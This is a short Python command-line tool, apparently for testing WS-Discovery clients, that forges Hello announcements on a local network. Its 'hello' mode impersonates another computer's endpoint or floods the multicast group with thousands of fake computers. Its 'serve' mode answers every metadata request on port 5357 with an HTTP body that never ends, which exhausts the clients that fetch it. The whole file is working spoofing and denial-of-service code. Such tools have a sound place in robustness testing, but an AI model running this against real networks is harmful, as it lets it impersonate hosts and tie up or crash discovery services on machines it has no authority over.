#!/usr/bin/env python3
"""A host that forges WS-Discovery announcements, as any host on a link can.

  wsdforger.py serve --bind ADDR
      answers every HTTP request on ADDR:5357 with a 200 whose body never
      ends (a few bytes every 10 ms, no length), as a metadata server that
      streams without end.
  wsdforger.py hello --bind ADDR --endpoint URN --count N
      sends N Hellos for computers to the WS-Discovery group from ADDR: the
      first names URN (another computer's endpoint), the others endpoints of
      their own; each names ADDR:5357 as its metadata address.
  wsdforger.py hello --bind ADDR --endpoint URN --metadata-version V
      one Hello for URN with that metadata version, naming ADDR:5357/UUID
      (URN's own path, as wsdd serves it): a computer renamed under the same
      endpoint says so.
"""
import argparse
import socket
import threading
import time
import uuid

GROUP = ("239.255.255.250", 3702)

HELLO = """<?xml version="1.0" encoding="utf-8"?><soap:Envelope \
xmlns:soap="http://www.w3.org/2003/05/soap-envelope" \
xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" \
xmlns:wsd="http://schemas.xmlsoap.org/ws/2005/04/discovery" \
xmlns:wsdp="http://schemas.xmlsoap.org/ws/2006/02/devprof" \
xmlns:pub="http://schemas.microsoft.com/windows/pub/2005/07"><soap:Header>\
<wsa:To>urn:schemas-xmlsoap-org:ws:2005:04:discovery</wsa:To>\
<wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Hello</wsa:Action>\
<wsa:MessageID>urn:uuid:{mid}</wsa:MessageID></soap:Header><soap:Body><wsd:Hello>\
<wsa:EndpointReference><wsa:Address>{endpoint}</wsa:Address></wsa:EndpointReference>\
<wsd:Types>wsdp:Device pub:Computer</wsd:Types>\
<wsd:XAddrs>http://{addr}:5357/{path}</wsd:XAddrs>\
<wsd:MetadataVersion>{version}</wsd:MetadataVersion></wsd:Hello></soap:Body></soap:Envelope>"""


def serve(addr):
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((addr, 5357))
    server.listen(64)

    def endless(conn):
        try:
            conn.settimeout(5)
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n\r\n<soap:Envelope>")
            while True:
                conn.sendall(b"<a>" * 64)
                time.sleep(0.01)
        except OSError:
            pass
        finally:
            conn.close()

    while True:
        conn, peer = server.accept()
        print("metadata request from %s" % peer[0], flush=True)  # the LAN log shows who fetched
        threading.Thread(target=endless, args=(conn,), daemon=True).start()


def hello(addr, endpoint, count, version):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.bind((addr, 0))
    for i in range(count):
        target = endpoint if i == 0 else "urn:uuid:%s" % uuid.uuid4()
        mid = uuid.uuid4()
        path = target[len("urn:uuid:"):] if version is not None else mid
        s.sendto(HELLO.format(mid=mid, endpoint=target, addr=addr, path=path, version=version or 1).encode(), GROUP)
        if i % 500 == 499:
            time.sleep(0.01)  # the bridge's queues, not the client, set the pace


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("what", choices=["serve", "hello"])
    ap.add_argument("--bind", required=True)
    ap.add_argument("--endpoint", default="urn:uuid:00000000-0000-4000-8000-000000000000")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--metadata-version", type=int)
    args = ap.parse_args()
    if args.what == "serve":
        serve(args.bind)
    else:
        hello(args.bind, args.endpoint, args.count, args.metadata_version)


if __name__ == "__main__":
    main()
